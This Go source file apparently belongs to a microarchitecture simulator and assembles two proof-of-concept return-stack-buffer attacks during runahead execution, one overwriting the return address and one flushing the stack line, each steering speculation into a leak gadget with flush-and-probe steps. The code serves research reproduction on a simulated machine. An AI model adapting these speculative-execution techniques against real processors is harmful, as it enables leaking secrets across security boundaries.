package attack

import (
	"specrun/internal/asm"
	"specrun/internal/isa"
)

// buildRSBOverwrite assembles the Fig. 4b PoC ("direct overwrite").
//
// The victim function overwrites its own on-stack return address with a
// pointer F loaded from memory; the attacker flushes F's line, so the
// overwrite store's data — and therefore the return's resolution — depend on
// a stalling load.  The RSB still holds the original return address, which
// points at the gadget placed directly after the call site.  During the
// runahead episode the return pops poisoned data, never resolves, and the
// machine follows the RSB into the gadget.
func buildRSBOverwrite(p Params) (*asm.Program, Layout, error) {
	b := asm.NewBuilder(0x1000, 0x100000)
	l := layoutData(b, p)
	fptr := b.Alloc("redirect_ptr", 64, 64)
	prologue(b, l)

	// redirect_ptr = &after: the architectural landing site.
	b.MoviAddr(rT2, fptr)
	b.MoviLabel(rT1, "after")
	b.St(rT2, 0, rT1)

	flushArray2(b, p, "flush_probe")
	b.MoviAddr(rFlushA, fptr)
	b.Clflush(rFlushA, 0) // associate the polluted value F with a stalling load
	b.Fence()
	b.Movi(rArg, int64(l.MaliciousX))
	b.Call("victim")
	// The gadget sits at the call's return site: the RSB predicts it, the
	// architectural return address (overwritten with &after) skips it.
	transmit(b, p)
	b.Label("after")
	waitLoop(b, "wait", 600)
	probeLoop(b, p, "probe")
	b.Halt()

	b.Label("victim")
	b.MoviAddr(rVT, fptr)
	b.Ld(rVT, rVT, 0)    // stalling load: the replacement return address F
	b.St(isa.SP, 0, rVT) // mov [rsp], F (Fig. 4b)
	b.Ret()              // arch -> after; RSB -> gadget

	prog, err := b.Build()
	if err != nil {
		return nil, Layout{}, err
	}
	return prog, l, nil
}

// buildRSBFlush assembles the Fig. 4c PoC (stack eviction).
//
// A helper call leaves a stale RSB entry pointing at the gadget (the helper
// discards its architectural return address and jumps back instead of
// returning).  The victim then flushes the stack line holding its own return
// address: the return's pop misses to memory, the return itself becomes the
// stalling load that triggers runahead, and the machine follows the stale
// RSB entry into the gadget while the real target is still in flight.
func buildRSBFlush(p Params) (*asm.Program, Layout, error) {
	b := asm.NewBuilder(0x1000, 0x100000)
	l := layoutData(b, p)
	prologue(b, l)

	flushArray2(b, p, "flush_probe")
	b.Fence()
	b.Movi(rArg, int64(l.MaliciousX))
	b.Call("victim")
	b.Label("cont")
	waitLoop(b, "wait", 600)
	probeLoop(b, p, "probe")
	b.Halt()

	b.Label("victim")
	b.Call("manip") // pushes an RSB entry pointing at the gadget below
	// gadget: architecturally never executed (manip discards the return).
	transmit(b, p)
	b.Label("vf_cont")
	b.Clflush(isa.SP, 0) // evict the victim's stack line (Fig. 4c)
	b.Fence()
	b.Ret() // the pop misses: the return IS the stalling load

	b.Label("manip")
	b.Addi(isa.SP, isa.SP, 8) // discard the architectural return address
	b.Jmp("vf_cont")          // leave the RSB entry stale

	prog, err := b.Build()
	if err != nil {
		return nil, Layout{}, err
	}
	return prog, l, nil
}
